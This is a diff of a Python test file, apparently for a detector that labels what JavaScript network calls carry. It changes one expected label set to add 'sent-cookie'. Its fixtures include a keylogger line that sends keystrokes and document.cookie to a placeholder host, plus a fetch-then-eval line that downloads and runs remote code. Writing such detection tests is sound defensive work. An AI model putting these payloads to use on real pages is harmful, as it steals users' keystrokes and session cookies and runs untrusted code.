@@ -59,7 +59,7 @@ def test_an_address_that_is_only_named_does_nothing(code):
 
 def test_what_stands_near_is_told():
     code = f"document.onkeydown=function(e){{b+=e.key;fetch('{AT}?'+b+document.cookie)}}"
-    assert unpack(code).acts[0].near == {"keys", "cookie"}
+    assert unpack(code).acts[0].near == {"keys", "cookie", "sent-cookie"}
     code = f"fetch('{AT}').then(r=>r.text()).then(t=>eval(t))"
     assert unpack(code).acts[0].near == {"run"}
     assert unpack(f"fetch('{AT}').then(t=>eval('('+t+')'))").acts[0].near == frozenset()
